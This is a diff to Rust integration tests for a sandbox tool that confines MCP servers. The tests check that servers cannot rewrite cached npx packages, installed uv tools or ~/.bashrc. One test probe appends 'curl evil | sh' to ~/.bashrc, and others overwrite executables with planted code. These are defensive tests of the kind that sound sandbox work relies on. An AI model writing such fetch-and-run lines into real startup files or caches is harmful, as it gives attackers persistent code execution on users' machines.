@@ -305,8 +305,9 @@ fn python_dash_m_from_the_project_folder_captures_without_options() {
         .contains("described by the sibling module"));
 }
 
-/// `UV_CACHE_DIR` and `npm_config_cache` give the presets the caches they grant; the server gets
-/// each with the value that was granted (not its fallback, which is not), and the report says so.
+/// `UV_CACHE_DIR` and `npm_config_cache` name the user's caches, which the presets grant
+/// read-only; the server gets each pointed at its own private cache (the one granted for
+/// write), and the report says so.
 #[test]
 fn variables_the_presets_granted_paths_from_reach_the_server() {
     let w = World::new();
@@ -325,19 +326,22 @@ fn variables_the_presets_granted_paths_from_reach_the_server() {
             .env("npm_config_cache", &npm);
         run_bounded(&mut cmd)
     };
+    let private = w.home.join(".local/state/mcpguard/server-caches");
     let out = run(&[
         python(),
         "-c",
         "import os; print('uv=[%s]' % os.environ.get('UV_CACHE_DIR'))",
     ]);
     assert!(out.status.success(), "{}", show(&out));
+    let said = text(&out.stdout);
     assert_all(
-        &text(&out.stdout),
+        &said,
         &[
-            &format!("UV_CACHE_DIR passed with the value a preset granted (preset python: uv's cache (uvx runs the tools it installs there): {})", uv.display()),
-            &format!("uv=[{}]", uv.display()),
+            "UV_CACHE_DIR passed with the value a preset granted (preset python: the server's private cache",
+            &format!("uv=[{}/", private.display()),
         ],
     );
+    assert!(!said.contains(&format!("uv=[{}]", uv.display())), "{said}");
     let node = "/usr/bin/node";
     if !Path::new(node).exists() {
         println!("skipping the node half: {node} is not installed");
@@ -352,10 +356,142 @@ fn variables_the_presets_granted_paths_from_reach_the_server() {
     assert_all(
         &text(&out.stdout),
         &[
-            "npm_config_cache passed with the value a preset granted (preset node: the npm cache",
-            &format!("npm=[{}]", npm.display()),
+            "npm_config_cache passed with the value a preset granted (preset node: the server's private cache",
+            &format!("npm=[{}/", private.display()),
         ],
     );
+}
+
+/// Issue 31: a writable grant never changes what runs outside the sandbox. The presets granted
+/// the npm cache (where `npx` keeps the packages it runs) and uv's data folder (where `uv tool`
+/// and `uvx` keep installed tools) for write to every server of their kind: a server rewrote a
+/// cached npx package and an installed uv tool, which then ran outside any sandbox. Now both
+/// trees are read-only to the server; the same writes work unsandboxed, and the later
+/// unsandboxed runs are unchanged.
+#[test]
+fn a_sandboxed_server_cannot_rewrite_what_npx_or_uv_run_later() {
+    let w = World::new();
+    let npm = w.path("npm-cache");
+    let npx_pkg = npm.join("_npx/0123abcd/node_modules/demo");
+    std::fs::create_dir_all(&npx_pkg).unwrap();
+    let npx_entry = npx_pkg.join("index.js");
+    std::fs::write(&npx_entry, "console.log('original npx package')\n").unwrap();
+    let uv_cache = w.path("uv-cache");
+    std::fs::create_dir(&uv_cache).unwrap();
+    let tool_bin = w.home.join(".local/share/uv/tools/demo/bin");
+    std::fs::create_dir_all(&tool_bin).unwrap();
+    let tool = tool_bin.join("demo");
+    std::fs::write(&tool, "#!/bin/sh\necho original uv tool\n").unwrap();
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
+    // The node server writes into the npm cache, the python server into uv's tool folder.
+    let node_code = format!(
+        "try {{ require('fs').writeFileSync({:?}, \"console.log('PLANTED')\\n\"); console.log('WROTE') }} catch (e) {{ console.log('DENIED', e.code) }}",
+        npx_entry.display().to_string()
+    );
+    let py_code = format!(
+        "try:\n    open({:?}, 'w').write('#!/bin/sh\\necho PLANTED\\n'); print('WROTE')\nexcept OSError as e:\n    print('DENIED', e.errno)\n",
+        tool.display().to_string()
+    );
+    let node = "/usr/bin/node";
+    let sandboxed = |program: &str, code: &str| {
+        run_bounded(
+            Command::new(mcpguard())
+                .args(["sandbox-check", "--policy"])
+                .arg(&w.policy)
+                .args([
+                    "--",
+                    program,
+                    if program == node { "-e" } else { "-c" },
+                    code,
+                ])
+                .env("HOME", &w.home)
+                .env("UV_CACHE_DIR", &uv_cache)
+                .env("npm_config_cache", &npm),
+        )
+    };
+    for (program, code) in [(node, &node_code), (python(), &py_code)] {
+        let out = sandboxed(program, code);
+        let said = text(&out.stdout);
+        assert!(
+            !said.contains("WROTE") && said.contains("DENIED"),
+            "{program}: {}",
+            show(&out)
+        );
+    }
+    // The later runs outside the sandbox run what was there.
+    let run_npx = run_bounded(Command::new(node).arg(&npx_entry));
+    assert_eq!(
+        text(&run_npx.stdout),
+        "original npx package\n",
+        "{}",
+        show(&run_npx)
+    );
+    let run_tool = run_bounded(&mut Command::new(&tool));
+    assert_eq!(
+        text(&run_tool.stdout),
+        "original uv tool\n",
+        "{}",
+        show(&run_tool)
+    );
+    // Unsandboxed the same writes work: the probes are real.
+    for (program, flag, code) in [(node, "-e", &node_code), (python(), "-c", &py_code)] {
+        let direct = run_bounded(Command::new(program).args([flag, code.as_str()]));
+        assert!(text(&direct.stdout).contains("WROTE"), "{}", show(&direct));
+    }
+}
+
+/// Issue 31: a writable grant that holds what the user's shell, ssh, git or mcpguard run or
+/// trust later (here the home directory, with `~/.bashrc`) is refused before the server
+/// starts, naming the files and what to grant instead; before, the server appended to
+/// `~/.bashrc`.
+#[test]
+fn a_writable_grant_holding_shell_start_up_files_is_refused() {
+    let w = World::new();
+    let rc = w.home.join(".bashrc");
+    std::fs::write(&rc, "# the user's\n").unwrap();
+    let code = format!(
+        "open({:?}, 'a').write('curl evil | sh\\n'); print('WROTE')",
+        rc.display().to_string()
+    );
+    let out = run_bounded(
+        Command::new(mcpguard())
+            .args(["sandbox-check", "--policy"])
+            .arg(&w.policy)
+            .arg("--sandbox-write")
+            .arg(&w.home)
+            .args(["--", python(), "-c", &code])
+            .env("HOME", &w.home),
+    );
+    assert!(!text(&out.stdout).contains("WROTE"), "{}", show(&out));
+    assert_eq!(std::fs::read_to_string(&rc).unwrap(), "# the user's\n");
+    assert!(!out.status.success(), "{}", show(&out));
+    let err = text(&out.stderr);
+    assert_all(
+        &err,
+        &[
+            "--sandbox-write grants",
+            &rc.display().to_string(),
+            "Grant the folder the server works on instead",
+        ],
+    );
+    // A project folder inside the home directory is granted as before.
+    let project = w.home.join("project");
+    std::fs::create_dir(&project).unwrap();
+    let code = format!(
+        "open({:?}, 'w').write('x'); print('WROTE')",
+        project.join("notes.txt").display().to_string()
+    );
+    let out = run_bounded(
+        Command::new(mcpguard())
+            .args(["sandbox-check", "--policy"])
+            .arg(&w.policy)
+            .arg("--sandbox-write")
+            .arg(&project)
+            .args(["--", python(), "-c", &code])
+            .env("HOME", &w.home),
+    );
+    assert!(text(&out.stdout).contains("WROTE"), "{}", show(&out));
 }
 
 /// The pyenv installation of the user running the tests, when there is one with a python3 shim.
